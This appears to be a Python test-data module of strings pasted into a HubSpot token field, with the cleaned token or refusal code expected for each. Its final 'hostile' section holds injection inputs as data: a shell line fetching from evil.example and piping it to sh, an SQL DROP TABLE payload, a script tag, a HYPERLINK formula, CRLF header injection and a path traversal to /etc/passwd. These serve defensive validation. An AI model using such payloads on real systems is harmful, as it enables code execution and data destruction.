"""What people paste into the token field, and what must become of it: test data, and the table of ``pasted_table``."""

from __future__ import annotations

from dataclasses import dataclass

UUID = "-".join(("5f0c9a7e", "31d2", "4b86", "a94f", "07c1e8d2b653"))
TOKEN = f"pat-na1-{UUID}"
OTHER = f"pat-eu1-{UUID[::-1].replace('-', '')[:8]}-{UUID[9:]}"
OAUTH = "CJT5msqzMhICAAEY" + "a1B2c3D4" * 12
PERSONAL = "CiRuYTEtMTIzNDEtMTIzNC0xMjM0" + "Ab1" * 20

CLEANED = "cleaned"


@dataclass(frozen=True, slots=True)
class Pasted:
    """One string.

    Attributes:
        kind: ``good``, ``dirty``, ``wrong kind`` or ``hostile``.
        what: What it is.
        text: The string.
        expected: ``cleaned``, or the code of the refusal.
        token: What the cleaned token must be.
    """

    kind: str
    what: str
    text: str
    expected: str
    token: str = TOKEN


def _regions() -> list[Pasted]:
    return [
        Pasted("good", f"a token of region {region}", f"pat-{region}-{UUID}", CLEANED, f"pat-{region}-{UUID}")
        for region in ("na1", "na2", "na3", "eu1", "ap1")
    ]


PASTED: tuple[Pasted, ...] = (
    *_regions(),
    Pasted("good", "an OAuth access token (told that it ends after 30 minutes)", OAUTH, CLEANED, OAUTH),
    Pasted("good", "a token whose digits are capitals", f"pat-na1-{UUID.upper()}", CLEANED, f"pat-na1-{UUID.upper()}"),
    # Dirt around it
    Pasted("dirty", "blanks and a line break around it", f"  {TOKEN}\r\n", CLEANED),
    Pasted("dirty", "tabs around it", f"\t{TOKEN}\t", CLEANED),
    Pasted("dirty", "all in capitals", TOKEN.upper(), CLEANED),
    Pasted("dirty", "Bearer before it", f"Bearer {TOKEN}", CLEANED),
    Pasted("dirty", "bearer, several blanks", f"bearer    {TOKEN}", CLEANED),
    Pasted("dirty", "Bearer twice", f"Bearer Bearer {TOKEN}", CLEANED),
    Pasted("dirty", "the whole header", f"Authorization: Bearer {TOKEN}", CLEANED),
    Pasted("dirty", "Bearer before an OAuth token", f"Bearer {OAUTH}", CLEANED, OAUTH),
    Pasted("dirty", "straight quotes", f'"{TOKEN}"', CLEANED),
    Pasted("dirty", "apostrophes and a comma", f"'{TOKEN}',", CLEANED),
    Pasted("dirty", "typographic quotes", f"“{TOKEN}”", CLEANED),
    Pasted("dirty", "German quotes", f"„{TOKEN}“", CLEANED),
    Pasted("dirty", "back-quotes of a chat", f"```\n{TOKEN}\n```", CLEANED),
    Pasted("dirty", "en dashes from a text program", TOKEN.replace("-", "–"), CLEANED),
    Pasted("dirty", "non-breaking hyphens", TOKEN.replace("-", "‑"), CLEANED),
    Pasted("dirty", "one minus sign", TOKEN.replace("-", "−", 1), CLEANED),
    Pasted("dirty", "soft hyphens inside", TOKEN[:12] + "\u00ad" + TOKEN[12:], CLEANED),
    Pasted("dirty", "full-width letters", TOKEN.translate({n: n + 0xFEE0 for n in range(0x21, 0x7F)}), CLEANED),
    Pasted("dirty", "a byte order mark before it", f"\ufeff{TOKEN}", CLEANED),
    Pasted("dirty", "a zero-width space inside", TOKEN[:20] + "\u200b" + TOKEN[20:], CLEANED),
    Pasted("dirty", "no-break spaces around it", f"\u00a0{TOKEN}\u00a0", CLEANED),
    Pasted("dirty", "wrapped over two lines by a mail program", f"{TOKEN[:26]}\r\n    {TOKEN[26:]}", CLEANED),
    Pasted("dirty", "wrapped over two lines by a terminal", f"{TOKEN[:26]}\\\n{TOKEN[26:]}", CLEANED),
    Pasted("dirty", "a name before it", f"token: {TOKEN}", CLEANED),
    Pasted("dirty", "a line of a .env file", f"HUBSPOT_ACCESS_TOKEN={TOKEN}", CLEANED),
    Pasted("dirty", "a whole .env file", f"# keys\nPORT=80\nHUBSPOT_TOKEN='{TOKEN}'\nDEBUG=1\n", CLEANED),
    Pasted("dirty", "export of a shell", f'export HUBSPOT_TOKEN="{TOKEN}"', CLEANED),
    Pasted("dirty", "a variable of PowerShell", f"$env:HUBSPOT_TOKEN = '{TOKEN}'", CLEANED),
    Pasted("dirty", "an OAuth token in a .env line", f"HUBSPOT_TOKEN={OAUTH}", CLEANED, OAUTH),
    Pasted("dirty", "JSON", f'{{"access_token": "{TOKEN}", "expires_in": 1800}}', CLEANED),
    Pasted("dirty", "JSON with an OAuth token", f'{{"access_token":"{OAUTH}"}}', CLEANED, OAUTH),
    Pasted("dirty", "JSON with escapes", f'"{TOKEN.replace("-", chr(92) + "u002d")}"', CLEANED),
    Pasted("dirty", "YAML", f"hubspot:\n  token: {TOKEN}\n", CLEANED),
    Pasted("dirty", "curl, -H in apostrophes", f"curl https://x.example -H 'authorization: Bearer {TOKEN}'", CLEANED),
    Pasted("dirty", "curl of Windows with ^", f'curl ^\r\n -H "Authorization: Bearer {TOKEN}"', CLEANED),
    Pasted("dirty", "curl over lines with \\", f'curl \\\n -H "Authorization: Bearer {TOKEN}" \\\n -d x', CLEANED),
    Pasted("dirty", "a line of Python", f'client = HubSpot(access_token="{TOKEN}")', CLEANED),
    Pasted("dirty", "a sentence of a chat", f"Hi! The token is {TOKEN}, please keep it safe.", CLEANED),
    Pasted("dirty", "escaped for an address", f"Bearer%20{TOKEN}", CLEANED),
    Pasted("dirty", "a formula of a spreadsheet", f'="{TOKEN}"', CLEANED),
    Pasted("dirty", "the same token twice", f"{TOKEN}\n{TOKEN}", CLEANED),
    # Not a token
    Pasted("wrong kind", "two different tokens", f"{TOKEN} {OTHER}", "token.several"),
    Pasted("wrong kind", "a bare UUID: an API key of before 2022", UUID, "token.api_key"),
    Pasted("wrong kind", "an API key in capitals and braces", f"{{{UUID.upper()}}}", "token.api_key"),
    Pasted("wrong kind", "hapikey in an address", f"https://api.hubapi.com/x?hapikey={UUID}", "token.api_key"),
    Pasted("wrong kind", "a personal access key of the HubSpot CLI", PERSONAL, "token.personal_access_key"),
    Pasted("wrong kind", "a refresh token, or a token without pat-", f"na1-{UUID}", "token.cut"),
    Pasted("wrong kind", "a JWT", "eyJhbGciOiJI.eyJzdWIiOiIx.abcdefghijk", "token.jwt"),
    Pasted("wrong kind", "a portal id", "48291573", "token.number"),
    Pasted("wrong kind", "an app id with a hash", "#31400000", "token.number"),
    Pasted("wrong kind", "an address of HubSpot", "https://app.hubspot.com/private-apps/48291573", "token.url"),
    Pasted("wrong kind", "an address without https", "app-eu1.hubspot.com/private-apps/1", "token.url"),
    Pasted("wrong kind", "an e-mail address", "somebody.with.a.long.name@example.com", "token.email"),
    Pasted("wrong kind", "a key of an AI service", "sk-proj-" + "a1b2" * 10, "token.other_service"),
    Pasted("wrong kind", "a token of GitHub", "ghp_" + "a1B2" * 9, "token.other_service"),
    Pasted("wrong kind", "a token of Slack", "xoxb-123456789012-abcdefABCDEF", "token.other_service"),
    Pasted("wrong kind", "a key of Stripe", "sk_live_" + "a1B2" * 6, "token.other_service"),
    Pasted("wrong kind", "a key of Amazon", "AKIA" + "A1B2" * 4, "token.other_service"),
    Pasted("wrong kind", "the masked token of the screen", "pat-na1-••••-••••-b653", "token.masked"),
    Pasted("wrong kind", "stars", "************************", "token.masked"),
    Pasted("wrong kind", "a placeholder", "YOUR_ACCESS_TOKEN", "token.placeholder"),
    Pasted("wrong kind", "a placeholder of a template", "{{ hubspot_token_of_acme }}", "token.placeholder"),
    Pasted("wrong kind", "the end is missing", TOKEN[:30], "token.cut"),
    Pasted("wrong kind", "a word", "password", "token.short"),
    Pasted("wrong kind", "a long word", "donaudampfschifffahrtsgesellschaft", "token.words"),
    Pasted("wrong kind", "Bearer and nothing", "Bearer ", "token.short"),
    Pasted("wrong kind", "nothing", "", "token.empty"),
    Pasted("wrong kind", "blanks and line breaks", " \n\t\u00a0", "token.empty"),
    Pasted("wrong kind", "5,000 characters", "a1" * 2500, "token.long"),
    Pasted("wrong kind", "1 MB", "a1" * 524_288, "token.long"),
    # Hostile
    Pasted("hostile", "NUL inside", f"{TOKEN[:20]}\x00{TOKEN[20:]}", "token.character"),
    Pasted("hostile", "another header behind a line break", f"{OAUTH}\r\nHost: evil.example", "token.space"),
    Pasted("hostile", "an escape sequence of a terminal", f"\x1b[31m{TOKEN[:20]}\x1b[0m", "token.character"),
    Pasted("hostile", "a Cyrillic letter among the others", TOKEN.replace("a", "а", 1), "token.character"),
    Pasted("hostile", "right-to-left override around it", f"\u202e{TOKEN}\u202c", CLEANED),
    Pasted("hostile", "emoji inside", f"{TOKEN[:20]}😀{TOKEN[20:]}", "token.character"),
    Pasted("hostile", "emoji alone", "😀" * 30, "token.character"),
    Pasted("hostile", "a command of a shell", "$(curl${IFS}evil.example|sh)1", "token.character"),
    Pasted("hostile", "SQL", "1';DROP/**/TABLE/**/accounts;--", "token.character"),
    Pasted("hostile", "HTML", "<script>alert(1)</script>", "token.character"),
    Pasted("hostile", "a formula", "=HYPERLINK(\"http://evil.example/1\")", "token.character"),
    Pasted("hostile", "a path", "../../../../etc/passwd\x001234", "token.character"),
    Pasted("hostile", "a lone surrogate", "pat-na1-\ud800" + "1a" * 10, "token.character"),
    Pasted("hostile", "Bearer ten thousand times", "Bearer " * 9_000, "token.long"),
)  # fmt: skip
